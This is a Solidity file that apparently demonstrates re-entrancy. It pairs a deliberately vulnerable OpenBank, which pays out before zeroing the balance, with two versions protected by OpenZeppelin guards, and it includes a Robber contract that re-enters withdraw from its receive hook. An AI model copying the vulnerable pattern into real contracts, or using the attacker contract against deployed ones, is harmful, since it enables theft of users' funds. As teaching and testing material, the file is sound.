// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.24;

import {ReentrancyGuard} from "@openzeppelin/contracts/utils/ReentrancyGuard.sol";
import {ReentrancyGuardTransient} from "@openzeppelin/contracts/utils/ReentrancyGuardTransient.sol";

interface IBank {
    function deposit() external payable;
    function withdraw() external;
}

/// Pays before it books: open to re-entrancy.
contract OpenBank is IBank {
    mapping(address => uint256) public balanceOf;

    function deposit() external payable {
        balanceOf[msg.sender] += msg.value;
    }

    function withdraw() external {
        uint256 amount = balanceOf[msg.sender];
        (bool ok,) = msg.sender.call{value: amount}("");
        require(ok, "OpenBank: payment refused");
        balanceOf[msg.sender] = 0;
    }
}

/// The same, behind OpenZeppelin's guard in storage.
contract GuardedBank is IBank, ReentrancyGuard {
    mapping(address => uint256) public balanceOf;

    function deposit() external payable {
        balanceOf[msg.sender] += msg.value;
    }

    function withdraw() external nonReentrant {
        uint256 amount = balanceOf[msg.sender];
        (bool ok,) = msg.sender.call{value: amount}("");
        require(ok, "GuardedBank: payment refused");
        balanceOf[msg.sender] = 0;
    }
}

/// The same, behind OpenZeppelin's guard in transient storage (TLOAD, TSTORE).
contract TransientGuardedBank is IBank, ReentrancyGuardTransient {
    mapping(address => uint256) public balanceOf;

    function deposit() external payable {
        balanceOf[msg.sender] += msg.value;
    }

    function withdraw() external nonReentrant {
        uint256 amount = balanceOf[msg.sender];
        (bool ok,) = msg.sender.call{value: amount}("");
        require(ok, "TransientGuardedBank: payment refused");
        balanceOf[msg.sender] = 0;
    }
}

/// Deposits and withdraws, and withdraws again from inside the payment, `rounds` times.
contract Robber {
    IBank private bank;
    uint256 private rounds;
    uint256 public entered;

    function rob(IBank bank_, uint256 rounds_) external payable {
        bank = bank_;
        rounds = rounds_;
        bank.deposit{value: msg.value}();
        bank.withdraw();
    }

    receive() external payable {
        entered += 1;
        if (entered < rounds) bank.withdraw();
    }
}
